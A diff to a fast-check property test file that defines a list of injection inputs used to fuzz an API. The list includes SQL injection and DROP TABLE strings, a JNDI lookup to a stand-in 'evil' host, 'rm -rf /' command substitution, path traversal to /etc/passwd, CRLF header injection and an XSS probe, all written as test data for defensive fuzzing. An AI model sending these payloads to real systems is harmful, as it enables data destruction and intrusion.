@@ -10,7 +10,7 @@ import fc from "fast-check";
 export const SEED = process.env.FC_SEED ? Number(process.env.FC_SEED) : 20_240_607;
 
 export const INJECTIONS = [
-    "' OR 1=1 --", "\"; DROP TABLE tasks; --", "${jndi:ldap://evil/x}", "$(rm -rf /)", "`id`", "../../etc/passwd", "..\\..\\windows",
+    "' OR 1=1 --", "\"; DROP TABLE tasks; --", "$" + "{jndi:ldap://evil/x}", "$(rm -rf /)", "`id`", "../../etc/passwd", "..\\..\\windows",
     "a&b=c", "a=b", "a&offset=999", "x?limit=1", "#frag", "%00", "%2F%2e%2e", "%", "%%", "+", "a+b", "a b", "\u0000", "\r\nX-Injected: 1",
     "inv-abc\ninv-def", "inv-abc,inv-def", "🚀", "ｉｎｖ-ａｂｃ", "inv-ABC", "<script>alert(1)</script>", "inv-", "invt-", " ", "", "\t", "\u202e",
     "\uFEFF", "\ud800", "a".repeat(129), "a".repeat(257), "null", "undefined", "__proto__", "constructor", "toString", "SUCCESS", "0",
